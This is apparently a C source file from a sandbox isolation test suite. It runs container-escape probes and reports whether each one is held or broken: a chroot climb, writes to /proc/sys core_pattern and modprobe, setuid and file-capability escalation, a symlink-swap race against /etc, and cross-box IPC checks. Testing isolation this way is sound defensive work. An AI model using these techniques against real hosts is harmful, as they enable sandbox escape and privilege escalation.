/* Attacks by files: leaving the root, /proc, setuid, signalling other boxes. */
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <mqueue.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define ATTACK(name) static int name(int argc, char **argv)

/* The classic: chroot into a folder while holding a descriptor outside of it, then climb. Root of the box may chroot; the climb must
 * end at the box's own root. */
ATTACK(climbing)
{
	struct stat top, climbed;
	stat("/", &top);
	mkdir("/srv/jail", 0755);
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/srv/jail") < 0 || fchdir(fd) < 0)
		return held("chroot itself is refused");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	stat(".", &climbed);
	if (chroot(".") < 0 || climbed.st_dev != top.st_dev || climbed.st_ino != top.st_ino)
		return broke("climbed out of the root");
	return access("/subject", F_OK) == 0 ? held("the climb ended at the box's root") : broke("another root");
}

static const char *wanted;
static int found;
static int look(const char *path, const struct stat *st, int type, struct FTW *f)
{
	(void)st;
	(void)type;
	if (strstr(path, wanted) && strncmp(path, "/proc/", 6) != 0)
		found = 1;
	(void)f;
	return !strcmp(path, "/usr") || !strcmp(path, "/proc") ? FTW_SKIP_SUBTREE : FTW_CONTINUE;
}

/* A file of the host, by its unique name. */
ATTACK(searching)
{
	wanted = argv[1];
	nftw("/", look, 32, FTW_PHYS | FTW_ACTIONRETVAL);
	return found ? broke("a file of the host shows") : held("not to be found");
}

ATTACK(proc_sys)
{
	static const char *const paths[] = {"/proc/sys/kernel/core_pattern",
	                                    "/proc/sys/kernel/modprobe",
	                                    "/proc/sys/kernel/hostname",
	                                    "/proc/sys/user/max_user_namespaces",
	                                    "/proc/sys/user/max_inotify_watches",
	                                    "/proc/sys/kernel/shmmax",
	                                    "/proc/sys/vm/overcommit_memory",
	                                    "/proc/sys/vm/drop_caches",
	                                    "/proc/sys/fs/binfmt_misc/register",
	                                    "/proc/sys/net/ipv4/ip_forward",
	                                    "/proc/sys/kernel/sysrq",
	                                    "/proc/1/uid_map",
	                                    "/proc/self/uid_map"};
	int bad = 0;
	for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
		int fd = open(paths[i], O_WRONLY);
		if (fd < 0 || write(fd, "0 0 1\n", 6) < 0)
			continue;
		printf("BROKE: %s was written\n", paths[i]);
		bad = 1;
	}
	int fd = open("/proc/sysrq-trigger", O_WRONLY); /* only opened: on a mask of /dev/null writing proves nothing */
	struct stat st;
	if (fd >= 0 && (fstat(fd, &st) < 0 || !S_ISCHR(st.st_mode)))
		bad = 1;
	return bad ? 1 : held("nothing was written");
}

ATTACK(masks)
{
	static const char *const paths[] = {"/proc/keys",      "/proc/key-users", "/proc/kallsyms",    "/proc/timer_list",
	                                    "/proc/config.gz", "/proc/kcore",     "/proc/sched_debug", "/proc/kmsg"};
	char c;
	for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
		int fd = open(paths[i], O_RDONLY | O_NONBLOCK);
		if (fd >= 0 && read(fd, &c, 1) > 0) {
			printf("BROKE: %s can be read\n", paths[i]);
			return 1;
		}
	}
	DIR *d = opendir("/sys");
	int n = 0;
	while (d && readdir(d))
		n++;
	return n > 2 ? broke("/sys holds something") : held("masked");
}

/* Run as root: leaves a setuid copy of this program; run as anybody: is it root now? */
ATTACK(setuid_attack)
{
	if (argc > 1)
		return geteuid() == 0 ? broke("setuid gave root") : held("setuid gave nothing");
	if (chown("/opt/attack", 0, 0) < 0 || chmod("/opt/attack", 04755) < 0)
		return broke("could not prepare");
	pid_t pid = fork();
	if (pid == 0) {
		if (setgid(1000) < 0 || setuid(1000) < 0)
			_exit(0); /* a box with one id: nobody to attack */
		execl("/opt/attack", "attack", "setuid", "now", (char *)NULL);
		_exit(1);
	}
	int status;
	waitpid(pid, &status, 0);
	return status ? broke("setuid") : held("setuid");
}

ATTACK(file_capabilities)
{
	static const unsigned char all[20] = {1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff};
	return refused("file capabilities", setxattr("/opt/attack", "security.capability", all, sizeof all, 0), EPERM, EOPNOTSUPP, 0);
}

ATTACK(overlay_marks)
{
	char value[8];
	mkdir("/srv/marked", 0755);
	int set = setxattr("/srv/marked", "user.overlay.opaque", "y", 1, 0);
	int got = (int)getxattr("/srv/marked", "user.overlay.redirect", value, sizeof value);
	setxattr("/srv/marked", "user.overlay.redirect", "/../../../../etc", 16, 0);
	/* Whatever is stored, it is this folder's own and means nothing to the overlay. */
	return got < 0 && access("/srv/marked/shadow", F_OK) < 0 ? held(set ? "refused" : "stored without meaning")
	                                                         : broke("a mark of overlayfs took effect");
}

/* Signals between two boxes: one takes (`take`), the other sees (`see`): a lock on a file that both have. */
ATTACK(lock_file)
{
	int fd = open(argv[2], O_RDONLY);
	if (fd < 0)
		return broke("open");
	if (!strcmp(argv[1], "take")) {
		if (flock(fd, LOCK_EX | LOCK_NB) < 0)
			return broke("somebody else holds it");
		puts("taken");
		sleep(30);
		return 0;
	}
	return flock(fd, LOCK_EX | LOCK_NB) == 0 ? held("the other's lock does not show") : broke("the other's lock shows");
}

ATTACK(write_lock)
{
	struct flock l = {.l_type = F_WRLCK, .l_whence = SEEK_SET};
	int fd = open(argv[2], O_RDWR);
	if (fd < 0)
		return held("cannot be opened for writing");
	if (!strcmp(argv[1], "take")) {
		fcntl(fd, F_SETLK, &l);
		puts("taken");
		sleep(30);
		return 0;
	}
	fcntl(fd, F_GETLK, &l);
	return l.l_type == F_UNLCK ? held("the other's lock does not show") : broke("the other's lock shows");
}

/* Names of shared objects that a neighbour has made. */
ATTACK(shared_names)
{
	if (!strcmp(argv[1], "take")) {
		int shm = shmget(0x4153, 4096, IPC_CREAT | 0666);
		int named = shm_open("/assay-shared", O_CREAT | O_RDWR, 0666);
		mqd_t q = mq_open("/assay-queue", O_CREAT | O_RDWR, 0666, NULL);
		printf("taken %d %d %d\n", shm >= 0, named >= 0, q >= 0);
		fflush(stdout);
		sleep(30);
		return 0;
	}
	if (shmget(0x4153, 4096, 0) >= 0)
		return broke("System V memory of another box");
	if (shm_open("/assay-shared", O_RDWR, 0) >= 0)
		return broke("shared memory of another box");
	return mq_open("/assay-queue", O_RDWR) >= 0 ? broke("a queue of another box") : held("nothing shared");
}

/* A folder swapped for a link to /etc, again and again, while files are put into it. */
ATTACK(swapping)
{
	mkdir("/srv/real", 0755);
	symlink("/etc", "/srv/link");
	puts("started");
	for (;;) {
		rename("/srv/real", "/srv/target");
		rename("/srv/target", "/srv/real");
		symlink("/etc", "/srv/target");
		unlink("/srv/target");
	}
	return 0;
}

/* The descriptor over which init talks to the launcher, and everything else that might have leaked into this process. */
ATTACK(descriptors)
{
	int n = 0;
	DIR *d = opendir("/proc/self/fd");
	for (struct dirent *e; (e = readdir(d));) {
		char path[300], target[300] = "";
		snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
		if (e->d_name[0] == '.' || (int)strtol(e->d_name, NULL, 10) == dirfd(d) || readlink(path, target, sizeof target - 1) < 0)
			continue;
		if ((int)strtol(e->d_name, NULL, 10) > 2 || (strncmp(target, "pipe:", 5) != 0 && strcmp(target, "/dev/null") != 0)) {
			printf("BROKE: descriptor %s is %s\n", e->d_name, target);
			n++;
		}
	}
	return n ? 1 : held("three streams and no more");
}

/* Crashing: the kernel must not start a core_pattern program of the host for it. */
ATTACK(dumping_core)
{
	int status;
	pid_t pid = fork();
	if (pid == 0)
		abort();
	waitpid(pid, &status, 0);
	return WCOREDUMP(status) ? broke("a core was dumped") : held("no core");
}

const struct attack attacks_files[] = {{"climbing", climbing},           {"searching", searching},
                                       {"proc_sys", proc_sys},           {"masks", masks},
                                       {"setuid", setuid_attack},        {"file_capabilities", file_capabilities},
                                       {"overlay_marks", overlay_marks}, {"lock_file", lock_file},
                                       {"write_lock", write_lock},       {"shared_names", shared_names},
                                       {"swapping", swapping},           {"descriptors", descriptors},
                                       {"dumping_core", dumping_core},   {NULL, NULL}};
